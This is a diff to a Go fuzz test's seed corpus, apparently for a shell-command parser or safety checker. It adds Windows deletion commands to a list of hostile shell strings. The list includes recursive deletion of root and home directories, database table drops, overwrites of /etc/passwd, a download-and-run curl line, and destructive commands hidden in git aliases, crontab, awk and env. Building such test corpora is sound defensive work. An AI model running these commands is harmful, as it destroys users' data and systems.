@@ -513,7 +513,7 @@ func FuzzParse(f *testing.F) {
 		"parallel bash -c 'rm {}' ::: a", "$(echo rm) -rf /", "a=$(b) c=${d:-e} f ${g[@]} <(h) >(i)",
 		"kubectl -n p exec -it db-0 -- psql -c 'DROP TABLE t'", "docker compose exec -T web rm -rf /app", "npx -c 'rm -rf ~'",
 		"env -S 'rm -rf' /", "curl -o i.sh https://x && bash i.sh", "alias x='rm -rf /'; x", "awk 'BEGIN{system(\"rm -rf /\")}'",
-		"awk '/a|b\\/[/]/ {print \"x\" | \"sh\"; \"c\" | getline; print > \"f\" }' f", "find / -name x | grep y | xargs rm", "pwsh -c \"ri -r -fo ~; & 'x.exe' a; $a = iex 'Remove-Item x'; Set-Content -Path:y z <# c #> | irm -Method:Delete u; @'\nx\n'@\"", "sed -ne '1e x' -e 's/\\/e/x/w f' -e 'y/a/b/;$!{w g\n}' f",
+		"awk '/a|b\\/[/]/ {print \"x\" | \"sh\"; \"c\" | getline; print > \"f\" }' f", "find / -name x | grep y | xargs rm", "rd /s /q C:\\x & del %TEMP%\\y ^& z %", "Remove-Item -Recurse C:\\x; New-Item -ItemType SymbolicLink -Force a", "pwsh -c \"ri -r -fo ~; & 'x.exe' a; $a = iex 'Remove-Item x'; Set-Content -Path:y z <# c #> | irm -Method:Delete u; @'\nx\n'@\"", "sed -ne '1e x' -e 's/\\/e/x/w f' -e 'y/a/b/;$!{w g\n}' f",
 		"> /etc/passwd", "{ echo; } > /etc/hosts", "docker run --rm -v /:/host --entrypoint sh alpine -c 'rm -rf /host'", "echo 'DROP TABLE t' | psql", "git reset --ha", "command -V git reset --hard",
 		"su root -c 'rm -rf /'", "echo '@reboot rm -rf ~' | crontab -", "tmux send-keys -t x 'rm -rf /' Enter", "at now <<< 'rm -rf /'",
 		"git -c alias.x='!rm -rf' -c core.pager=less x /", "GIT_SSH_COMMAND='rm -rf ~' git -c alias.y='reset --hard' y", "sudo -s <<< 'rm -rf /'",
